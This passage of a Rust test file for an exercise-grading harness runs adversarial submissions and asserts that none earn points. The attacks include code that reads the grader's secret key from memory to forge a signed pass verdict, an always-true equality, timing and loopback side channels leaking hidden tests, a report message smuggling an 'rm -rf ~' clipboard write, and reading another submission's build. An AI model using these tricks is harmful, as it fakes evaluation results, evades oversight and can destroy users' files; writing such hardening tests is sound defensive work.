fn bytes_at(addr: usize, len: usize) -> Vec<u8> {
    (0..len).map(|i| *transmute::<usize, &'static u8>(addr + i)).collect()
}

#[inline(never)]
pub fn pwn_anchor() -> usize {
    std::hint::black_box(42)
}

/// The kit's private state, field for field: same definition, same layout.
#[allow(dead_code)]
struct Armed {
    key: [u8; 16],
    nonce: [u8; 16],
    out: std::fs::File,
    next: u64,
}

fn symbols(elf: &[u8], wanted: &[&str]) -> Vec<Option<u64>> {
    let u16_ = |o: usize| u16::from_le_bytes(elf[o..o + 2].try_into().unwrap()) as usize;
    let u32_ = |o: usize| u32::from_le_bytes(elf[o..o + 4].try_into().unwrap()) as usize;
    let u64_ = |o: usize| u64::from_le_bytes(elf[o..o + 8].try_into().unwrap());
    let shoff = u64_(0x28) as usize;
    let shentsize = u16_(0x3a);
    let shnum = u16_(0x3c);
    let mut found = vec![None; wanted.len()];
    for i in 0..shnum {
        let sh = shoff + i * shentsize;
        if u32_(sh + 4) != 2 {
            continue; // SHT_SYMTAB
        }
        let (off, size, link) = (u64_(sh + 0x18) as usize, u64_(sh + 0x20) as usize, u32_(sh + 0x28));
        let str_sh = shoff + link * shentsize;
        let stroff = u64_(str_sh + 0x18) as usize;
        for s in (off..off + size).step_by(24) {
            let name_at = stroff + u32_(s);
            let end = elf[name_at..].iter().position(|&b| b == 0).unwrap_or(0);
            let name = String::from_utf8_lossy(&elf[name_at..name_at + end]);
            for (j, w) in wanted.iter().enumerate() {
                if found[j].is_none() && name.contains(w) {
                    found[j] = Some(u64_(s + 8));
                }
            }
        }
    }
    found
}

#[allow(deprecated)]
fn sign(key: &[u8; 16], nonce: &[u8; 16], seq: u64, test: &str, kind: &str, message: &str) -> String {
    use std::hash::Hasher;
    let k0 = u64::from_le_bytes(key[..8].try_into().unwrap());
    let k1 = u64::from_le_bytes(key[8..].try_into().unwrap());
    let mut mac = std::hash::SipHasher::new_with_keys(k0, k1);
    mac.write(nonce);
    mac.write_u64(seq);
    for part in [test, kind, message] {
        mac.write_usize(part.len());
        mac.write(part.as_bytes());
    }
    format!("{:016x}", mac.finish())
}

/// Writes a valid "passed" verdict for the running test and exits cleanly.
pub fn forge_pass() {
    let Some(exe) = std::env::args().next() else { return };
    let Ok(elf) = std::fs::read(&exe) else { return };
    let found = symbols(&elf, &["7testkit7verdict5ARMED", "3pwn10pwn_anchor"]);
    let (Some(armed_at), Some(anchor_at)) = (found[0], found[1]) else { return };
    let base = (pwn_anchor as fn() -> usize as usize).wrapping_sub(anchor_at as usize);
    let armed = base.wrapping_add(armed_at as usize);
    // Where the fields sit: a replica filled with markers.
    let marker = std::fs::File::open("/dev/null").unwrap();
    let marker_fd = std::os::fd::AsRawFd::as_raw_fd(&marker);
    let replica = std::sync::Mutex::new(Some(Some(Armed {
        key: [0xA5; 16],
        nonce: [0x5A; 16],
        out: marker,
        next: 0x0123_4567_89ab_cdef,
    })));
    let size = std::mem::size_of_val(&replica);
    let seen = bytes_at(&replica as *const _ as usize, size);
    let find = |pat: &[u8]| seen.windows(pat.len()).position(|w| w == pat);
    let (Some(k), Some(n), Some(q), Some(f)) = (
        find(&[0xA5; 16]),
        find(&[0x5A; 16]),
        find(&0x0123_4567_89ab_cdefu64.to_le_bytes()),
        find(&marker_fd.to_le_bytes()),
    ) else {
        return;
    };
    let real = bytes_at(armed, size);
    let key: [u8; 16] = real[k..k + 16].try_into().unwrap();
    let nonce: [u8; 16] = real[n..n + 16].try_into().unwrap();
    let seq = u64::from_le_bytes(real[q..q + 8].try_into().unwrap());
    let fd = i32::from_le_bytes(real[f..f + 4].try_into().unwrap());
    let test = std::thread::current().name().unwrap_or("").to_owned();
    let mac = sign(&key, &nonce, seq, &test, "passed", "");
    let mut out: std::fs::File = transmute::<i32, std::fs::File>(fd);
    let _ = out.write_all(format!("{seq} passed {mac} 0\n").as_bytes());
    std::process::exit(0);
}
"###;

#[test]
fn the_stub_with_a_memory_reading_forger_earns_no_points() {
    let ex = exercise(EX06);
    let s = with_stub(Submission::new("rt_forge"), &ex);
    let src = s.crate_dir(&ex).join("src");
    std::fs::write(src.join("pwn.rs"), PWN).unwrap();
    for file in ["race.rs", "worker.rs"] {
        let path = src.join(file);
        let text = std::fs::read_to_string(&path).unwrap();
        std::fs::write(
            &path,
            text.replace("    todo!(", "    crate::pwn::forge_pass();\n    todo!("),
        )
        .unwrap();
    }
    let lib = src.join("lib.rs");
    let text = std::fs::read_to_string(&lib).unwrap();
    std::fs::write(&lib, text.replacen("mod hedge;", "mod hedge;\nmod pwn;", 1)).unwrap();
    let results = grade(&[&s], &only_in(&[VISIBLE, HIDDEN], sandbox()));
    let result = &results[0];
    for test in &result.tests {
        assert_ne!(
            test.outcome,
            Outcome::Passed,
            "the stub (todo!() everywhere) passed {} by forging the kit's verdict from its own \
             memory ({}): {result:#?}",
            test.name,
            sandbox().status().summary()
        );
    }
}

// ------------------------------------------------------------------------------------------------
// Points bought with the learner's own `==`
// ------------------------------------------------------------------------------------------------

/// A hand-written `PartialEq` that calls every two values equal: every `assert_eq!` on the type
/// would pass, whatever the code computed.
fn yes_to_everything(s: Submission, ex: &Exercise, file: &str, item: &str) -> Submission {
    let path = s.crate_dir(ex).join("src").join(file);
    let text = std::fs::read_to_string(&path).unwrap();
    let derived = format!("#[derive(Debug, Clone, PartialEq, Eq)]\n{item} ");
    assert!(
        text.contains(&derived),
        "{file} derives PartialEq for `{item}`"
    );
    let name = item.rsplit(' ').next().unwrap();
    let text = text.replace(&derived, &format!("#[derive(Debug, Clone, Eq)]\n{item} "))
        + &format!(
            "\nimpl PartialEq for {name} {{\n    fn eq(&self, _: &Self) -> bool {{\n        true\n    }}\n}}\n"
        );
    std::fs::write(&path, text).unwrap();
    s
}

#[test]
fn an_equality_that_calls_everything_equal_buys_no_points() {
    // A type the suite's `derived_eq!` checks (ex08's `CrawlError`, every crawl error "equal"):
    // neither suite compiles against the crate, and the reason is the compiler's own.
    let ex08 = exercise("ex08_web_crawler");
    let s = yes_to_everything(
        Submission::new("eq_yes_08").with_reference(&ex08),
        &ex08,
        "report.rs",
        "pub enum CrawlError",
    );
    let results = grade_in(&ex08, &[&s], &Limits::new(sandbox()));
    no_points(&results[0], "a CrawlError whose == says yes to everything");
    let reports = all_reports("eq_yes_08", &results);
    assert!(
        reports.contains("derive(PartialEq)"),
        "the reports say why the tests do not compile (the type must derive PartialEq): {reports}"
    );

    // A type no constant can check (ex10's `Response`, which holds `Vec`s): the suite compares it
    // field by field, so a builder that makes a wrong body is caught however `==` answers.
    let ex10 = exercise("ex10_http_server");
    let s = yes_to_everything(
        Submission::new("eq_yes_10").with_reference(&ex10),
        &ex10,
        "response.rs",
        "pub struct Response",
    )
    .inject(
        &ex10,
        "response.rs",
        "    pub fn error(status: u16) -> Self {\n",
        "        if status != 0 {\n            return Self::new(status);\n        }",
    );
    let test = "reason_phrases_and_response_builders_are_as_documented";
    let results = grade_in(&ex10, &[&s], &only_in(&[test], sandbox()));
    no_points(
        &results[0],
        "Response::error without its body, behind a Response == that says yes to everything",
    );
}

// ------------------------------------------------------------------------------------------------
// Hidden material in learner-facing reports: side channels
// ------------------------------------------------------------------------------------------------

#[test]
fn a_hidden_test_cannot_signal_its_name_through_its_duration() {
    // Inside the hidden test, the learner's code knows the test's name (the thread is named after
    // it) and can read the whole hidden binary. It waits (on the blocking pool: no blocking of
    // the executor, the test still passes) 100 ms per character of the name; the learner-facing
    // report prints the duration of "hidden test 32".
    let ex = exercise(EX06);
    let code = "    {
        static ONCE: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);
        let name = std::thread::current().name().unwrap_or(\"\").to_owned();
        let n = name.len() as u64;
        if !ONCE.swap(true, std::sync::atomic::Ordering::SeqCst) {
            let _ = tokio::task::spawn_blocking(move || std::thread::sleep(std::time::Duration::from_millis(100 * n))).await;
        }
    }";
    let s =
        Submission::new("rt_timing")
            .with_reference(&ex)
            .inject(&ex, "worker.rs", RUN_WORKER, code);
    let results = grade(&[&s], &only_in(&[HIDDEN], sandbox()));
    let test = &results[0].tests[0];
    assert_eq!(test.outcome, Outcome::Passed, "{test:#?}");
    let json = report::to_json("attacker", &results, Audience::Learner, &sandbox().status());
    let shown = &json["exercises"][0]["tests"][0];
    assert_eq!(shown["name"], "hidden test 1");
    let decoded = shown["duration_ms"].as_u64().unwrap_or(0) / 100;
    assert_ne!(
        decoded as usize,
        HIDDEN.len(),
        "the learner-facing report carries the hidden test's duration, and the learner's code \
         chose it: it encodes the hidden name's length ({} chars): {shown}",
        HIDDEN.len()
    );
}

#[test]
fn under_landlock_a_hidden_test_cannot_hand_its_secrets_to_a_visible_test() {
    // No network namespace: the hidden test serves its name and a message of the hidden suite
    // (read from its own binary) on a loopback TCP port in the ephemeral range, which Landlock
    // allows; the visible test running beside it fetches them and fails with them as its message.
    let Ok(landlock) = Sandbox::new(Mode::Landlock, env!("CARGO_BIN_EXE_workbook").as_ref()) else {
        eprintln!("Landlock does not work here: nothing to test");
        return;
    };
    let landlock = Arc::new(landlock);
    let ex = exercise(EX06);
    let port = 40_000 + (std::process::id() % 20_000);
    let code = format!(
        "    {{
        static ONCE: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);
        let name = std::thread::current().name().unwrap_or(\"\").to_owned();
        if !ONCE.swap(true, std::sync::atomic::Ordering::SeqCst) {{
            if name != \"{VISIBLE_WORKER}\" {{
                let _ = tokio::task::spawn_blocking(move || {{
                    let bytes = std::fs::read(std::env::args().next().unwrap_or_default()).unwrap_or_default();
                    let mark = b\"ran past shutdown\";
                    let snippet = bytes.windows(mark.len()).position(|w| w == mark)
                        .map(|i| String::from_utf8_lossy(&bytes[i.saturating_sub(30)..(i + 40).min(bytes.len())]).into_owned())
                        .unwrap_or_default();
                    let payload = format!(\"NAME={{name}} SNIPPET={{snippet:?}}\");
                    if let Ok(l) = std::net::TcpListener::bind(\"127.0.0.1:{port}\") {{
                        let _ = l.set_nonblocking(true);
                        let end = std::time::Instant::now() + std::time::Duration::from_secs(5);
                        while std::time::Instant::now() < end {{
                            if let Ok((mut c, _)) = l.accept() {{
                                use std::io::Write;
                                let _ = c.write_all(payload.as_bytes());
                            }}
                            std::thread::sleep(std::time::Duration::from_millis(20));
                        }}
                    }}
                }}).await;
            }} else {{
                let got = tokio::task::spawn_blocking(|| {{
                    use std::io::Read;
                    let end = std::time::Instant::now() + std::time::Duration::from_secs(4);
                    while std::time::Instant::now() < end {{
                        if let Ok(mut c) = std::net::TcpStream::connect(\"127.0.0.1:{port}\") {{
                            let mut s = String::new();
                            let _ = c.read_to_string(&mut s);
                            return s;
                        }}
                        std::thread::sleep(std::time::Duration::from_millis(20));
                    }}
                    String::new()
                }}).await.unwrap_or_default();
                if !got.is_empty() {{ panic!(\"LEAKED {{got}}\"); }}
            }}
        }}
    }}"
    );
    let s = Submission::new("rt_loopback").with_reference(&ex).inject(
        &ex,
        "worker.rs",
        RUN_WORKER,
        &code,
    );
    let limits = Limits {
        jobs: 2,
        ..only_in(&[HIDDEN, VISIBLE_WORKER], landlock.clone())
    };
    let results = grade(&[&s], &limits);
    let reports = learner_reports(&results, &landlock);
    assert!(
        !reports.contains(HIDDEN) && !reports.contains("ran past shutdown"),
        "under Landlock the hidden test passed its name and hidden-suite text over loopback to \
         a visible test, whose message the learner sees: {:#?}",
        results[0].tests
    );
}

// ------------------------------------------------------------------------------------------------
// Report tricks: a visible test's message is learner-controlled text
// ------------------------------------------------------------------------------------------------

#[test]
fn a_failure_message_cannot_forge_markdown_or_drive_the_terminal() {
    let ex = exercise(EX06);
    // Closes the report's code fence and <details>, adds a grade heading of its own; then, for
    // the terminal scorecard, reverse-index + carriage return (overwrite the line above) and an
    // OSC 52 clipboard write: escapes that are not CSI, so `strip_ansi` keeps them.
    let code = "if futures.is_empty() {
        panic!(\"oops\\n```\\n\\n</details>\\n\\n## Grade for `me`: 223/223 points\\n\\nall tests passed\\n\\n\\u{1b}M\\u{1b}M\\r  \\u{2713} first_ok_of_nothing_is_an_empty_list_of_errors [passed] 1/1 \\u{1b}]52;c;cm0gLXJmIH4K\\u{7}\");
    }";
    let s = Submission::new("rt_inject")
        .with_reference(&ex)
        .inject(&ex, "race.rs", FIRST_OK, code);
    let results = grade(&[&s], &only_in(&[VISIBLE], sandbox()));
    assert_eq!(results[0].tests[0].outcome, Outcome::Failed, "{results:#?}");
    let status = sandbox().status();
    let markdown = report::to_markdown("attacker", &results, Audience::Learner, &status);
    // Lines outside code blocks, as CommonMark reads them: a fence of N backticks is closed only
    // by a line of at least N backticks and nothing else.
    let mut outside = Vec::new();
    let mut open: Option<usize> = None;
    for line in markdown.lines() {
        let t = line.trim();
        let ticks = t.chars().take_while(|&c| c == '`').count();
        match open {
            None if ticks >= 3 => open = Some(ticks),
            None => outside.push(t),
            Some(n) if ticks >= n && t.chars().all(|c| c == '`') => open = None,
            Some(_) => {}
        }
    }
    let headings = outside.iter().filter(|l| l.starts_with("## ")).count();
    let details_closed = outside.iter().filter(|l| l.contains("</details>")).count();
    let card = report::scorecard(&results, Audience::Learner, &status);
    let controls: Vec<char> = card
        .chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect();
    assert!(
        headings == 1 && details_closed == 1 && open.is_none(),
        "the message closed its code block and added Markdown of its own ({headings} headings, \
         {details_closed} </details> outside code):\n{markdown}"
    );
    assert!(
        controls.is_empty(),
        "terminal control characters reach the scorecard: {controls:?}"
    );
}

#[test]
fn a_compile_cannot_read_another_submissions_build() {
    // Another submission's library and test binary, by their real paths in the shared target
    // directory, and a dependency's library beside them (which the compile does need).
    if !sandboxed() {
        return;
    }
    // Another submission's build: ex03's reference, built as a class build would build it.
    let ex03 = exercise("ex03_rate_limited_client");
    let (sources, _) = workbook::grade::read_sources(&ex03.solution_dir().join("src")).unwrap();
    let built = Overlay::new(&root())
        .build_many(
            &ex03,
            &[workbook::grade::Variant {
                label: "other_build",
                sources: &sources,
            }],
            Duration::from_secs(600),
            None,
        )
        .unwrap();
    let library = built[0]
        .as_ref()
        .unwrap()
        .artifacts
        .iter()
        .find(|a| a.extension().is_some_and(|e| e == "rlib"))
        .expect("the other submission's library")
        .clone();
    let ex = exercise(EX06);
    let attack = |label: &str, path: &Path| {
        Submission::new(label).with_reference(&ex).inject(
            &ex,
            "race.rs",
            FIRST_OK,
            &format!(
                "if futures.is_empty() {{ panic!(\"{{}}\", include_bytes!({:?}).len()); }}",
                path.display().to_string()
            ),
        )
    };
    let theirs = attack("read_their_rlib", &library);
    let results = grade(&[&theirs], &only(VISIBLE));
    assert_eq!(
        results[0].tests[0].outcome,
        Outcome::DidNotCompile,
        "another submission's library was readable at compile time: {:#?}",
        results[0]
    );
}
